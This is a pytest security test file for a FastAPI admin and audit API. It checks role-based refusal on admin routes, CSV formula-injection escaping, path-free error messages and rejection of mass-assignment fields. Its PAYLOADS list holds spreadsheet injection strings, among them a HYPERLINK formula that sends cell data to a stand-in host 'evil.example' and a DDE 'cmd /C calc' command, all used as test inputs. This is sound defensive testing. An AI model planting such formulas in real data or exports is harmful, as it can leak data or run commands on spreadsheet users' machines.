"""The admin surface under attack: every admin route and method refused to every other role,
CSV exports that other people's typed text cannot turn into spreadsheet formulas, and error
answers that name no file on the server."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

from api.csv_export import FORMULA_STARTS
from api.personal import api_routes
from tests.api.conftest import ACCOUNTS, PASSWORD, Api

ADMIN_PREFIXES = ("/admin", "/users", "/audit")
# Door-plate routes that are not the admins': the residents' own and the staff's reads of a
# ticket's reporter (admin, operator and the ticket's grid; tested in tests/api).
NOT_ADMIN_ONLY = re.compile(r"^/plates/(open|track|requests|photos)/")
SAMPLE = {"username": "admin-zhou", "rule_id": "wristband.heart_rate", "code": "DP-3-1-502"}


def _admin_routes(api: Api) -> list[tuple[str, str]]:
    found = []
    for route in api_routes(api.client.app.routes):
        assert isinstance(route, APIRoute)
        path = route.path
        if not (path.startswith(ADMIN_PREFIXES) or path.startswith("/plates")):
            continue
        if NOT_ADMIN_ONLY.match(path) or not route.include_in_schema:
            continue  # (the /admin page itself is a static shell: its data is these routes)
        concrete = re.sub(r"\{(\w+)\}", lambda m: SAMPLE.get(m.group(1), "1"), path)
        found += [(method, concrete) for method in sorted(route.methods)]
    return found


@pytest.mark.parametrize("role", ["operator", "grid_worker", "family", "vendor", None])
def test_every_admin_route_and_method_refuses_everyone_else(api: Api, role: str | None):
    routes = _admin_routes(api)
    assert len(routes) >= 20 and ("PATCH", "/users/admin-zhou") in routes
    for method, path in routes:
        r = api.client.request(method, path, headers=api.headers(role), json={})
        assert r.status_code == (401 if role is None else 403), (role, method, path, r.text)
    # Nothing changed: the admin is still an enabled admin and no account was made.
    me = api.client.get("/users", headers=api.headers("admin")).json()
    assert {u["username"]: (u["role"], u["disabled"]) for u in me}["admin-zhou"] == (
        "admin", False)
    assert len(me) == len(ACCOUNTS) + 1  # the seeded ones and fam-li


BLANKS = " \u00a0\u3000\t\r\n\x0b\x0c"


def _dangerous(value: str) -> bool:
    if not value or value.startswith("'"):
        return False
    return value[:1] in "\t\r\n" or value.lstrip(BLANKS)[:1] in FORMULA_STARTS


PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"详情")', " =1+1", "＝1+1",
            "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")


def test_exports_keep_text_that_others_typed_from_becoming_formulas(api: Api):
    c = api.client
    family = api.headers("family")
    # A family's refused reach for an "elder" named like a formula is audited as typed.
    for payload in PAYLOADS:
        r = c.get(f"/family/elders/{payload}/location", headers=family)
        assert r.status_code == 404
    # Typed at the login form (username) and sent by a browser (User-Agent).
    ascii_payloads = [p for p in PAYLOADS if p.isascii()]  # headers are Latin-1
    for payload in PAYLOADS:
        c.post("/auth/token", data={"username": payload, "password": "x"},
               headers={"User-Agent": ascii_payloads[len(payload) % len(ascii_payloads)]})
    for payload in ascii_payloads[:3]:
        r = c.post("/auth/token", data={"username": ACCOUNTS["operator"][0],
                                        "password": PASSWORD},
                   headers={"User-Agent": "\t" + payload})
        assert r.status_code == 200
    admin = api.headers("admin")
    seen = ""
    for path in ("/audit/access.csv", "/audit/sign-ins.csv", "/audit/logins.csv",
                 "/audit/actions.csv"):
        r = c.get(path, headers=admin)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [cell for cell in cells if _dangerous(cell)], path
        seen += r.text
    # The rows are there, marked as text, not dropped.
    assert "'=HYPERLINK(" in seen and "' =1+1" in seen and "'＝1+1" in seen


def test_error_answers_name_no_file_on_the_server(api: Api, tmp_path: Path):
    c, family = api.client, api.headers("family")
    missing = tmp_path / "secret-folder" / "sitemap.json"
    api.gateway.settings.api.sitemap_file = missing
    r = c.get("/sitemap", headers=family)
    assert r.status_code == 404 and str(tmp_path) not in r.text and "secret" not in r.text
    broken = tmp_path / "secret-folder-2" / "sitemap.json"
    broken.parent.mkdir()
    broken.write_text("{not json", encoding="utf-8")
    api.gateway.settings.api.sitemap_file = broken
    r = c.get("/sitemap", headers=family)
    assert r.status_code == 503 and str(tmp_path) not in r.text
    assert "Expecting" not in r.text and "line 1" not in r.text


def test_an_id_no_row_can_have_is_refused_not_crashed_on(api: Api):
    c = TestClient(api.client.app, raise_server_exceptions=False)
    r = c.post(f"/tickets/{api.sos_ticket_id}/transitions", headers=api.headers("operator"),
               json={"action": "mark_duplicate", "duplicate_of": 2**70, "reason": "same"})
    assert r.status_code == 422 and "duplicate_of" in r.text, r.text


def test_account_forms_take_no_field_they_do_not_name(api: Api):
    c, admin = api.client, api.headers("admin")
    for extra in ({"disabled": True}, {"password_hash": "$argon2id$x"}, {"created_at": 0}):
        r = c.post("/users", headers=admin, json={"username": "mass-1", "role": "operator",
                                                  **extra})
        assert r.status_code == 422, (extra, r.text)
    for extra in ({"username": "admin-two"}, {"disabled": False}, {"password": "x" * 12},
                  {"password_hash": "$argon2id$x"}):
        r = c.patch(f"/users/{ACCOUNTS['operator'][0]}", headers=admin, json=extra)
        assert r.status_code == 422, (extra, r.text)
    r = c.post(f"/users/{ACCOUNTS['operator'][0]}/password", headers=admin,
               json={"password": "long enough 1", "role": "admin"})
    assert r.status_code == 422
    accounts = {u["username"]: u for u in c.get("/users", headers=admin).json()}
    assert "mass-1" not in accounts and accounts["op-chen"]["role"] == "operator"
    assert api.login(ACCOUNTS["operator"][0])  # the password did not change
